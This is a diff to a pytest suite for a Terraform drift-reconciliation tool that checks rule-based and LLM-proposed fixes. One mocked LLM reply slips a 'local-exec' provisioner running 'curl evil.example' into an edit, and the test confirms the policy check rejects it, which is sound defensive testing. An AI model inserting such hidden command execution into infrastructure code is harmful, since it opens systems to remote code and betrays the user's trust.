@@ -67,24 +67,21 @@ def _by_address(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
 
 def test_rules_codify_what_they_can_and_the_patch_applies(estate: Estate) -> None:
     code, doc = estate.propose("--no-llm", "--patch", str(estate.root / "fix.patch"))
-    assert code == 2  # the count-shared VMs need a person or an LLM
+    assert code == 2  # web[2]'s boot diagnostics need a person or an LLM
     proposals = _by_address(doc)
     disk, nsg = proposals["azurerm_managed_disk.data"], proposals["azurerm_network_security_group.web"]
     assert disk["valid"] and nsg["valid"] and disk["origin"] == "rules"
     assert disk["files"] == ["variables.tf"]  # the value comes from a variable default: edited there
     assert "-  default     = 32\n+  default     = 64\n" in disk["diff"]
     assert '+    name                       = "allow-ssh"' in nsg["diff"]
-    assert [s["name"] for s in disk["attempts"][0]["steps"]] == [
-        "apply",
-        "parse",
-        "validate",
-        "plan",
-        "intent",
-        "policy",
-    ]
-    for address in (f"{VM}[0]", f"{VM}[1]", f"{VM}[2]"):
-        assert not proposals[address]["valid"]
-        assert "uses count" in proposals[address]["explanation"]
+    steps = ["apply", "parse", "validate", "plan", "intent", "policy"]
+    assert [s["name"] for s in disk["attempts"][0]["steps"]] == steps
+    # One instance of a count drifted: a conditional for that instance, the shared expression kept.
+    resized = proposals[f"{VM}[1]"]
+    assert resized["valid"]
+    assert '+  size                  = count.index == 1 ? "Standard_B2s" : var.vm_size' in resized["diff"]
+    assert proposals[f"{VM}[0]"]["valid"]
+    assert not proposals[f"{VM}[2]"]["valid"]
 
     # The patch applies with git, touches only the drifted lines, and then plans those two resources as no-op.
     copy = estate.root / "patched"
@@ -95,8 +92,14 @@ def test_rules_codify_what_they_can_and_the_patch_applies(estate: Estate) -> Non
         assert (copy / name).read_bytes() == (estate.ws / name).read_bytes()
     plan = estate.e.tf.show_plan_json(estate.e.tf.plan(copy, out=Path("p.tfplan")).planfile or copy, copy)
     actions = {c["address"]: c["change"]["actions"] for c in plan["resource_changes"]}
-    assert actions["azurerm_managed_disk.data"] == ["no-op"]
-    assert actions["azurerm_network_security_group.web"] == ["no-op"]
+    for address in (
+        "azurerm_managed_disk.data",
+        "azurerm_network_security_group.web",
+        f"{VM}[0]",
+        f"{VM}[1]",
+    ):
+        assert actions[address] == ["no-op"], address
+    assert actions[f"{VM}[2]"] == ["update"]  # not codified: the only change left
 
 
 def test_revert_plans_exactly_the_reverting_changes(estate: Estate) -> None:
@@ -117,23 +120,36 @@ def test_revert_plans_exactly_the_reverting_changes(estate: Estate) -> None:
 def test_the_llm_gets_what_rules_decline_and_only_validated_answers_pass(
     estate: Estate, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    per_instance = '  size                  = count.index == 1 ? "Standard_B2s" : var.vm_size'
-    correct = {"file": "main.tf", "find": SIZE_LINE, "replace": per_instance}
+    block = (
+        "  boot_diagnostics {\n"
+        "    storage_account_uri = azurerm_storage_account.diagnostics.primary_blob_endpoint\n"
+        "  }"
+    )
+    per_instance = (
+        '  dynamic "boot_diagnostics" {\n'
+        "    for_each = count.index == 2 ? [] : [1]\n"
+        "    content {\n"
+        "      storage_account_uri = azurerm_storage_account.diagnostics.primary_blob_endpoint\n"
+        "    }\n"
+        "  }"
+    )
     provisioner = '\n\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }'
-    hostile = {"file": "main.tf", "find": SIZE_LINE, "replace": per_instance + provisioner}
-    wrong = {"file": "terraform.tfvars", "find": 'vm_size        = "Standard_B1s"',
-             "replace": 'vm_size        = "Standard_B2s"'}  # fmt: skip
-    decline = {
-        "strategy": "decline",
-        "edits": [],
-        "explanation": "per-instance tags need a map; a person should decide",
-    }
     replies = [
-        decline,  # web[0]: tags
-        {"strategy": "codify", "edits": [hostile], "explanation": "size per instance"},  # web[1]
-        {"strategy": "codify", "edits": [wrong], "explanation": "size for all"},
-        {"strategy": "codify", "edits": [correct], "explanation": "size for instance 1 only"},
-        decline,  # web[2]: boot diagnostics
+        {
+            "strategy": "codify",
+            "edits": [{"file": "main.tf", "find": block, "replace": per_instance + provisioner}],
+            "explanation": "no boot diagnostics on instance 2",
+        },
+        {
+            "strategy": "codify",
+            "edits": [{"file": "main.tf", "find": block, "replace": ""}],
+            "explanation": "no boot diagnostics",
+        },
+        {
+            "strategy": "codify",
+            "edits": [{"file": "main.tf", "find": block, "replace": per_instance}],
+            "explanation": "no boot diagnostics on instance 2",
+        },
     ]
     with OpenAIServer(replies) as llm:
         monkeypatch.setenv("RECONCILE_LLM_BASE_URL", llm.base_url)
@@ -141,18 +157,18 @@ def test_the_llm_gets_what_rules_decline_and_only_validated_answers_pass(
         monkeypatch.setenv("RECONCILE_LLM_API_KEY", llm.api_key)
         _, doc = estate.propose()
         bodies = llm.bodies()
-    resized = _by_address(doc)[f"{VM}[1]"]
-    assert resized["valid"] and resized["origin"] == "llm"
-    hostile_try, wrong_try, right_try = resized["attempts"][1:]
+    assert len(bodies) == 3  # only what the rules declined reached the LLM
+    proposal = _by_address(doc)[f"{VM}[2]"]
+    assert proposal["valid"] and proposal["origin"] == "llm"
+    hostile_try, wrong_try, right_try = proposal["attempts"][1:]
     [refused] = [s for s in hostile_try["steps"] if not s["ok"]]
     assert refused["name"] == "policy" and "builtin.no_code_execution" in refused["detail"]
-    assert [s["name"] for s in wrong_try["steps"] if not s["ok"]] == ["intent"]
+    [off_target] = [s for s in wrong_try["steps"] if not s["ok"]]
+    assert off_target["name"] == "intent" and f"{VM}[0]" in off_target["detail"]
     assert right_try["ok"]
-    assert "count.index == 1" in resized["diff"] and "local-exec" not in resized["diff"]
+    assert "count.index == 2 ? [] : [1]" in proposal["diff"] and "local-exec" not in proposal["diff"]
     # What failed was fed back: the request for the third answer carries the intent failure.
-    assert "a proposal changes only its resource" in bodies[3]
-    assert _by_address(doc)[f"{VM}[0]"]["valid"] is False
-    assert len(bodies) == 5
+    assert "a proposal changes only its resource" in bodies[2]
 
 
 def test_a_stale_scan_is_refused(estate: Estate, capsys: pytest.CaptureFixture[str]) -> None:
